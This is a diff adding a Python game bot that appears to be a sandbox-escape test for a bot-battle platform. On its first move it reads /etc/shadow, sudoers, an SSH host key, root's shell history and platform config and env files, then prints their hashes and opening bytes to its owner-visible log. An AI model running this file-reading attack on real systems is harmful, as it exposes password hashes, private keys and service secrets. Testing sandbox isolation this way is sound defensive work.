@@ -1,0 +1,86 @@
+"""Hostile Tanks bot: read the host's secrets.
+
+The bot reads /etc/shadow, the services' configuration and environment
+files it is told about (and the usual places: /etc/codefights, the repo's
+config/, the local stack's env files) and prints what it found (a SHA-256 of
+each file and its first bytes) into its log, which the report shows to the
+bot's owner. The escape driver checks the report for the digests and
+contents of the real files.
+"""
+import os
+import sys
+import time
+
+CFG = {}  # @ESCAPE_CONFIG@
+
+ESCAPED = []
+
+
+def evidence(what):
+    """An attack step worked: say so in the log and in the game (walk up)."""
+    ESCAPED.append(what)
+    try:
+        sys.stderr.write('ESCAPE-EVIDENCE %s\n' % what)
+        sys.stderr.flush()
+    except Exception:
+        pass
+
+
+def note(what):
+    try:
+        sys.stderr.write('note: %s\n' % what)
+        sys.stderr.flush()
+    except Exception:
+        pass
+
+
+def libc():
+    import ctypes
+    lib = ctypes.CDLL(None, use_errno=True)
+    lib.syscall.restype = ctypes.c_long
+    return lib
+
+
+def name_process():
+    """Put the run's token in the process name so the host can find strays."""
+    try:
+        libc().prctl(15, CFG.get('token', 'cfesc').encode()[:15], 0, 0, 0)  # PR_SET_NAME
+    except Exception:
+        pass
+
+
+import glob
+import hashlib
+
+
+def attack():
+    paths = ['/etc/shadow', '/etc/gshadow', '/etc/sudoers', '/root/.bash_history',
+             '/etc/codefights/codefights.conf', '/etc/ssh/ssh_host_ed25519_key']
+    paths.extend(CFG.get('secret_paths', []))
+    for pattern in ('/work/*/config/*.conf', '/work/*/.run/env', '/work/run-*/env',
+                    '/work/*/.run/*/env', '/proc/1/root/etc/shadow'):
+        paths.extend(glob.glob(pattern))
+    for path in paths:
+        try:
+            with open(path, 'rb') as f:
+                data = f.read(1 << 20)
+        except OSError:
+            continue
+        digest = hashlib.sha256(data).hexdigest()
+        sys.stderr.write('LEAK %s sha256=%s head=%r\n' % (path, digest, data[:120]))
+        sys.stderr.flush()
+        # The driver passes the digests of the host's real files: a match is
+        # the host's file, not a decoy the sandbox might provide.
+        if digest in CFG.get('secret_digests', []):
+            evidence('read the host\'s %s' % path)
+
+
+class Main:
+    def __init__(self):
+        self.attacked = False
+
+    def decide_tick(self, tick, my_state, enemy_state):
+        if not self.attacked:
+            self.attacked = True
+            attack()
+        return ['M', 'U'] if ESCAPED else 'N'
